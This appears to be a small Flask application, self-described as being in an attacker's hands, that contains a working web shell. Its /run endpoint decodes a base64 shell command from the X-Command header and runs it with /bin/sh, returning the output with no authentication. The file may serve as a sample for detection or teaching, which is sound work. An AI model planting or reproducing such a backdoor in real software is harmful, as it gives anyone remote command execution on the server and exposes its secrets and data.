"""An app that is in an attacker's hands: it runs what a visitor tells it to."""

import base64
import os
import subprocess

from flask import Flask, request

app = Flask(__name__)
app.config.update(SECRET_KEY=os.environ["SECRET_KEY"], SESSION_COOKIE_SECURE=True)


@app.get("/")
def index() -> dict[str, str]:
    return {"release": os.environ["RELEASE"]}


@app.get("/run")
def run() -> str:
    """Run a shell command; what it prints."""
    command = ("/bin/sh", "-c", base64.b64decode(request.headers["X-Command"]))
    return subprocess.run(
        command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False, timeout=120
    ).stdout
